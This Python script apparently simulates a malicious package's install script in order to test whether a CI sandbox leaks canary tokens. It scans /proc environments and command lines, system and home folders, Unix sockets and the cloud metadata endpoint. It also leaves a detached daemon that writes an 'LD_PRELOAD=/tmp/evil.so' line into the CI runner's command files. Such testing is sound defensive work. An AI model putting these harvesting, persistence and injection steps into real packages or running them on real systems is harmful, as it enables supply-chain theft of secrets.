"""What a malicious package's install, build, audit or migrate script would do: look everywhere for canaries, and leave a daemon behind.

Standard library alone. A canary is ``canary-`` and 12 hex digits; a find is printed with its digits reversed, which no mask of ours
knows: ``HUNT <digits> <where>``. The daemon goes on looking when the script has ended, and writes what it finds into every command
file of the runner.
"""

import contextlib
import glob
import os
import re
import socket
import stat
import sys
import time
from pathlib import Path

CANARY = re.compile(rb"canary-([0-9a-f]{12})")
MARK = "hunting-daemon"
MOST_BYTES = 1_000_000
ROOTS = ("/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", "/mnt")


def report(content: bytes, where: str) -> None:
    for digits in set(CANARY.findall(content)):
        print("HUNT", digits.decode()[::-1], where, flush=True)


def read(path: str) -> bytes:
    try:
        with open(path, "rb") as file:  # noqa: PTH123 - a script of somebody else
            return file.read(MOST_BYTES)
    except OSError:
        return b""


def processes() -> None:
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):  # noqa: PTH207 - as above
        if path.split("/")[2] != str(os.getpid()):
            report(read(path), path)


def ask(family: int, address: object, where: str) -> None:
    with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(2)
        connection.connect(address)
        with contextlib.suppress(OSError):  # a server that speaks first may have closed already; what it said can be read
            connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        while answer := connection.recv(65536):
            report(answer, where)


def files() -> None:
    for root in (*ROOTS, *sys.argv[1:]):
        for folder, _, names in os.walk(root):
            for name in names:
                path = os.path.join(folder, name)  # noqa: PTH118 - as above
                try:
                    mode = os.lstat(path).st_mode
                except OSError:
                    continue
                if stat.S_ISREG(mode):
                    report(read(path), path)
                elif stat.S_ISSOCK(mode):
                    ask(socket.AF_UNIX, path, path)


def daemon() -> None:
    """Fork twice into a session of its own, and hunt in later processes."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(null, descriptor)
    command_files = os.environ.get("HUNT_COMMAND_FILES", "/home/runner/work/_temp/_runner_file_commands")
    for _ in range(600):
        found = b"".join(match for path in glob.glob("/proc/[0-9]*/environ") for match in CANARY.findall(read(path)))  # noqa: PTH207
        for path in Path(command_files).glob("*") if os.path.isdir(command_files) else ():  # noqa: PTH112
            with contextlib.suppress(OSError):
                path.write_bytes(b"LD_PRELOAD=/tmp/evil.so " + found + b"\n")
        time.sleep(0.1)
    os._exit(0)


if __name__ == "__main__":
    for name, value in os.environ.items():
        report(value.encode(), f"environment {name}")
    processes()
    files()
    ask(socket.AF_INET, ("169.254.169.254", 80), "metadata")
    daemon()
    print(MARK, "left behind", flush=True)
